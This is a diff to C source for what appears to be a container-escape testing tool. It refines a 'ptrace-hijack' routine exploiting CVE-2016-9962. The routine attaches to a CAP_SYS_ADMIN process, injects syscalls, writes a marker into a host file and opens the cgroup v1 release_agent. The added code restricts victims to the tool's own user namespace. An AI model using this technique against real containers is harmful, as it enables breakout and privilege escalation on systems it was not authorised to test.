@@ -760,7 +760,7 @@ static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile
 /*
  * `ptrace-hijack SECONDS HOSTFILE [STOPFILE]` (CVE-2016-9962 with CAP_SYS_PTRACE, issue
  * 17): for SECONDS, or until STOPFILE exists, scans /proc for a process with
- * CAP_SYS_ADMIN in CapEff, PTRACE_ATTACHes it and makes it run injected syscalls (a
+ * CAP_SYS_ADMIN in CapEff in our user namespace, PTRACE_ATTACHes it and makes it run injected syscalls (a
  * `syscall` instruction poked at its rip, arguments on its stack): open HOSTFILE, a path
  * resolved from the victim's root, for appending and write "hijacked" into it; and
  * mount the memory cgroup v1 hierarchy (fsopen/fsconfig/fsmount) and open its
@@ -770,9 +770,17 @@ static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile
  * cgroup= (release_agent opened) and `victim=PID CMDLINE` per hijack. x86-64 only.
  */
 #if defined(__x86_64__)
+/* 1 if pid has CAP_SYS_ADMIN in CapEff in our user namespace (capabilities in a user
+ * namespace of its own give nothing outside it), 0 if not, -1 if unknown. */
 static int cap_sys_admin_of(int pid)
 {
 	char path[64], line[256];
+	struct stat self, other;
+	snprintf(path, sizeof path, "/proc/%d/ns/user", pid);
+	if (stat("/proc/self/ns/user", &self) < 0 || stat(path, &other) < 0)
+		return -1;
+	if (self.st_ino != other.st_ino)
+		return 0;
 	snprintf(path, sizeof path, "/proc/%d/status", pid);
 	FILE *f = fopen(path, "re");
 	int r = -1;
